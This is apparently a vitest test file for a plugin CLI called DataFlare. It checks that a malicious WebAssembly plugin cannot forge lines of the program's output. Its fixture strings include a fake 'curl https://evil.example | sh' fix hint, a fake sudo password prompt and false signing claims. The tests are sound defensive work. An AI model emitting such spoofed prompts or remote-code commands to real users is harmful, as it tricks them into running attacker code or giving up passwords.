import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliEntry } from '../support/built.ts';
import { wat } from '../support/guests/wat.ts';
import { runCliHere } from '../support/terminal/cli-here.ts';
import { onTerminal } from '../support/terminal/pty.ts';

/** What a plugin would have a person believe that the program said. */
const forgeries = [
	'It asks for nothing.',
	'Signed by DataFlare. Install it? [Y/n] y',
	'sha256 0000 (verified by DataFlare)',
	'hint: Mend it with: curl https://evil.example | sh',
	'error[permission_denied]: ask your administrator',
	'note: this plugin was checked',
	'[sudo] password for you: ',
];
const lies = forgeries.join('\n');
/** Reaches the edge of the terminal, which would go on in a line of its own. */
const padded = `fine ${'.'.repeat(75)}${' '.repeat(160)}${forgeries[0]}`;

let folder: string;
let plugin: string;
beforeAll(async () => {
	folder = mkdtempSync(join(tmpdir(), 'dataflare-forged-'));
	plugin = join(folder, 'forger');
	mkdirSync(plugin);
	const text = `bad input\n${lies}`;
	const escaped = [...Buffer.from(text)].map((byte) => `\\${byte.toString(16).padStart(2, '0')}`).join('');
	writeFileSync(
		join(plugin, 'p.wasm'),
		await wat(`(module
			(import "env" "host_set_error" (func $error (param i32 i32)))
			(import "env" "host_log" (func $log (param i32 i32 i32 i32)))
			(memory (export "memory") 1) (data (i32.const 16) "warn") (data (i32.const 64) "${escaped}")
			(func (export "process_data") (param i32 i32) (result i32)
				(call $log (i32.const 16) (i32.const 4) (i32.const 64) (i32.const ${text.length}))
				(call $error (i32.const 64) (i32.const ${text.length})) (i32.const -1)))`),
	);
	writeFileSync(
		join(plugin, 'plugin.json'),
		JSON.stringify({
			name: 'forger',
			type: 'processor',
			module_path: './p.wasm',
			[`misspelt\n${lies}`]: 1,
			metadata: {
				version: `1.0\n${forgeries[0]}`,
				description: `${padded}\n${lies}`,
				author: `x\n${forgeries[1]}`,
				[`more\n${lies}`]: lies,
			},
			security_policy: {
				allow_file_system: true,
				allowed_paths: [
					`/data/x\n${lies}`,
					'/data/y. It asks for nothing.',
					'not\u0000understood\nIt asks for nothing.',
				],
				allow_network: true,
				allowed_hosts: [`evil.example\n${lies}`],
			},
		}),
	);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function expectNoForgery(shown: string): void {
	const lines = shown.split(/\r\n|\n|\r/);
	for (const forged of forgeries) expect(lines.filter((line) => line.startsWith(forged.trim()))).toEqual([]);
}

describe('a plugin whose words hold whole lines of the program', () => {
	it('is inspected, refused and listed without one of them at the beginning of a line', async () => {
		for (const args of [
			['inspect', plugin],
			['install', plugin],
			['install', plugin, '--yes'],
			['list'],
			['inspect', 'forger'],
			['policy', 'show', 'forger'],
			['policy', 'check', 'forger', `read:/data\n${lies}`],
		]) {
			const { out, err } = await runCliHere(folder, args);
			expectNoForgery(out);
			expectNoForgery(err);
		}
		const { out } = await runCliHere(folder, ['inspect', plugin]);
		expect(out).toContain('Described by its author: "fine ....');
		expect(out).toContain('Read and change "/data/y. It asks for nothing." and');
	});

	it('fails and logs with what follows its first line marked', async () => {
		const { err } = await runCliHere(folder, ['call', 'forger', 'process_data', '{}']);
		expect(err).toMatch(
			/^error\[plugin_execution\]: the plugin says: bad input\n {2}\| It asks for nothing\.\n {2}\| Signed/,
		);
		expectNoForgery(err);
		for (const args of [
			['history', 'list'],
			['history', 'search', 'password'],
		]) {
			const { out } = await runCliHere(folder, args);
			expectNoForgery(out);
		}
		const { out } = await runCliHere(folder, ['--json', 'history', 'list', '--limit', '1']);
		const shown = await runCliHere(folder, ['history', 'show', JSON.parse(out).data.runs[0].id]);
		expect(shown.out).toContain('  | [sudo] password');
		expectNoForgery(shown.out);
	});

	it('cannot use the edge of a terminal to begin a line either', async () => {
		for (const columns of [80, 40]) {
			const { text } = await onTerminal(
				[process.execPath, cliEntry, '--data-dir', join(folder, 'data'), 'inspect', plugin],
				{ columns },
			);
			expect(text).toContain('Described by its author');
			for (const line of text.split('\n')) expect(line.trimEnd().length).toBeLessThanOrEqual(columns);
			expectNoForgery(text);
		}
	});
});
